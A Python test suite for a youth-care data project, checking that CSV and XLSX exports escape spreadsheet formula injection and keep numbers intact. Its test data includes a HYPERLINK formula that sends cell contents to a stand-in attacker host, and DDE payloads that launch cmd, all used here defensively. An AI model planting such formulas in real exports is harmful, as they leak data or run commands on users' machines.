"""Formula-safe cells: no text a spreadsheet would run, numbers stay numbers."""

from __future__ import annotations

import csv
import io
import math

import numpy as np
import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from jeugdhulp.data.cells import FORMULA_STARTS, safe_cell, safe_frame, safe_row
from jeugdhulp.data.xlsx_writer import write_workbook

ATTACKS = [
    '=HYPERLINK("http://aanvaller.example/?"&A1,"Klik")',
    "=1+1",
    "+32 475 12 34 56",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
PLAIN_NUMBERS = ["-0.5", "-3", "+7", "-0,25", "-1e-5", "-.5"]
# Text that spreadsheets read as text, starting with any character.
texts = st.text(st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=40)
dangerous_texts = st.builds(
    lambda start, rest: start + rest, st.sampled_from(FORMULA_STARTS), texts
)


def _is_plain_number(text: str) -> bool:
    """The test's own oracle: an optional sign, then what float() reads from ASCII digits,
    a decimal point or comma and an exponent."""
    body = text[1:] if text[:1] in "+-" else text
    if not body or not set(body) <= set("0123456789.,eE+-") or body[0] in "+-eE":
        return False
    try:
        float(body.replace(",", "."))
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_formula_gets_an_apostrophe_and_keeps_its_text(attack):
    assert safe_cell(attack) == "'" + attack


@pytest.mark.parametrize("number", PLAIN_NUMBERS)
def test_a_negative_or_signed_plain_number_stays_a_number(number):
    assert safe_cell(number) == number


@given(texts)
def test_no_text_cell_starts_a_formula_and_the_text_is_kept(text):
    out = safe_cell(text)
    assert out.removeprefix("'") == text or out == text
    if out.startswith(FORMULA_STARTS):
        assert out == text
        assert _is_plain_number(text)


@given(dangerous_texts)
def test_every_dangerous_start_is_neutralised_unless_a_plain_number(text):
    out = safe_cell(text)
    assert out == text if _is_plain_number(text) else out == "'" + text


@given(st.one_of(st.integers(), st.floats(allow_nan=True), st.booleans(), st.none()))
def test_numbers_and_empty_cells_are_returned_as_they_are(value):
    out = safe_cell(value)
    assert out is value


# Finite numbers: the exports write no infinity (a "-inf" cell would be a harmless #NAME?).
@given(st.lists(st.one_of(texts, st.floats(allow_nan=False, allow_infinity=False), st.none())))
def test_a_csv_row_holds_no_formula(row):
    handle = io.StringIO()
    csv.writer(handle, delimiter=";").writerow(safe_row(row))
    handle.seek(0)
    for cell in next(csv.reader(handle, delimiter=";"), []):
        assert not cell.startswith(FORMULA_STARTS) or _is_plain_number(cell)


def test_safe_frame_leaves_number_columns_and_the_original_frame_alone():
    frame = pd.DataFrame(
        {"naam": ["=1+1", "Genk", None], "ratio": [-0.5, 1.25, np.nan], "n": [-3, 4, 5]}
    )
    out = safe_frame(frame)
    assert out["naam"].tolist()[:2] == ["'=1+1", "Genk"]
    assert out["naam"].isna().tolist() == [False, False, True]
    assert out["ratio"].equals(frame["ratio"])
    assert out["n"].equals(frame["n"])
    assert frame.loc[0, "naam"] == "=1+1"
    harmless = frame.assign(naam=["Genk", "Hasselt", None])
    assert safe_frame(harmless) is harmless


@settings(max_examples=30, deadline=None)
@given(
    st.lists(
        st.tuples(
            texts,
            st.floats(-1e15, 1e15),
            st.integers(-(2**40), 2**40),
        ),
        min_size=1,
        max_size=12,
    )
)
def test_an_xlsx_sheet_holds_no_formula_and_numbers_round_trip(tmp_path_factory, rows):
    path = tmp_path_factory.mktemp("xlsx") / "t.xlsx"
    frame = pd.DataFrame(rows, columns=["tekst", "getal", "aantal"])
    write_workbook(path, [("blad", frame)])
    book = openpyxl.load_workbook(path, read_only=True)
    read = list(book["blad"].iter_rows(values_only=True))[1:]
    for (text, number, count), (text_back, number_back, count_back) in zip(rows, read, strict=True):
        assert number_back == number or math.isclose(number_back, number, rel_tol=1e-15)
        assert count_back == count
        if text_back is not None:
            assert isinstance(text_back, str)
            assert not text_back.startswith(FORMULA_STARTS) or _is_plain_number(text_back)
    cells = [cell for row in book["blad"].iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)


def test_a_formula_behind_a_character_xml_cannot_hold_is_still_escaped(tmp_path):
    # The writer drops characters XML cannot hold; what is left must not start a formula.
    path = tmp_path / "t.xlsx"
    write_workbook(path, [("blad", pd.DataFrame({"tekst": ["\x0b=1+1", "\x0b\t"]}))])
    book = openpyxl.load_workbook(path, read_only=True)
    read = [row[0] for row in list(book["blad"].iter_rows(values_only=True))[1:]]
    assert read == ["'=1+1", "'\t"]
